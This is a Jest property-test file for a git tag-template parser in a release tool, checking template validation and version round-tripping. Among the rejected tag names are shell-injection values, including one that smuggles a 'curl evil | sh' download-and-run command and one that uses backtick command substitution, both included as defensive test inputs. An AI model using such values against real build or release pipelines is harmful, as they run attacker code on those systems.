import { describe, expect, test } from "@jest/globals";
import { SCHEMES } from "@release-actions/core/versioning/scheme";
import { tagTemplate } from "@release-actions/core/versioning/tag-template";
import fc from "fast-check";
import { anyVersion, versionOf } from "./arbitrary-version.ts";

const TEMPLATES = ["v{version}", "{version}", "frontend-v{version}", "web/v{version}", "v{version}-web", "1.{version}"];

describe("tagTemplate", () => {
  test.each(["", "v", "{version}{version}", "v{ version }", "v{Version}"])(
    "refuses %j, which has no one place for the version",
    (template) => {
      expect(() => tagTemplate(template, "semver")).toThrow(expect.objectContaining({ code: "TAG_TEMPLATE_INVALID" }));
    },
  );

  test.each([
    "-{version}",
    "a b{version}",
    "a~{version}",
    "{version}.lock",
    "a/.{version}",
    "/{version}",
    "a//{version}",
    "a..{version}",
    "{version}.",
    "@{{version}",
    "a\u0007{version}",
    "a\\{version}",
  ])("refuses %j, whose names git does not take", (template) => {
    expect(() => tagTemplate(template, "semver")).toThrow(expect.objectContaining({ code: "TAG_TEMPLATE_INVALID" }));
  });

  test.each(TEMPLATES)("%s reads back every name that it gives", (template) => {
    for (const scheme of SCHEMES) {
      const { format, parse } = tagTemplate(template, scheme);
      fc.assert(fc.property(anyVersion(scheme), (version) => expect(parse(format(version))).toEqual(version)));
    }
  });

  test("reads no name that it would not give", () => {
    const names = fc.stringMatching(/^(frontend-)?v?\d{1,2}\.\d{1,2}(\.\d{1,2})?(-web|-rc\.1)?$/);
    fc.assert(
      fc.property(names, fc.constantFrom(...TEMPLATES), fc.constantFrom(...SCHEMES), (name, template, scheme) => {
        const { format, parse } = tagTemplate(template, scheme);
        const version = parse(name);
        expect(version === undefined ? name : format(version)).toBe(name);
      }),
    );
  });

  test.each([
    "v99999999999999999999.0.0",
    "v1.0.0-0123",
    "refs/tags/v1",
    "refs/tags/v1.0.0",
    'v1.0.0";curl$\x7bIFS}evil|sh;"',
    "v1.0.0`id`",
    "V1.0.0",
    "vv1.0.0",
    "v1.0.0 ",
    "v",
  ])("passes %s over", (name) => {
    expect(tagTemplate("v{version}", "semver").parse(name)).toBeUndefined();
  });

  test("text before and after the version may not share characters", () => {
    expect(tagTemplate("v1{version}1v", "semver").parse("v1v")).toBeUndefined();
  });

  test("keeps build metadata, so that the tag is found again", () => {
    const { format, parse } = tagTemplate("v{version}", "semver");
    expect(format(parse("v1.0.0+5") ?? versionOf("semver", "0.0.1"))).toBe("v1.0.0+5");
  });
});
